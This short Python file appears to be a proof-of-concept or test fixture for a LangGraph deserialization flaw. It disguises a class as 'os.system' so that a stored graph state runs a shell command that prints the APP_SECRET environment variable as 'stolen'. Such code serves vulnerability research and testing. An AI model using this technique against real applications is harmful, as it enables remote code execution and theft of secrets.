"""Leaves an object in its thread whose deserialization by LangGraph is a call."""

from typing import Any, TypedDict

from langgraph.graph import START, StateGraph

COMMAND = """printf '{"event": "stolen", "secret": "%s"}\\n' "$APP_SECRET" """


class State(TypedDict, total=False):
    plan: Any


class Call:
    def model_dump(self) -> dict[str, str]:
        return {"command": COMMAND}


Call.__module__, Call.__name__ = "os", "system"

graph = StateGraph(State)
graph.add_node("poison", lambda _: {"plan": Call()})
graph.add_edge(START, "poison")
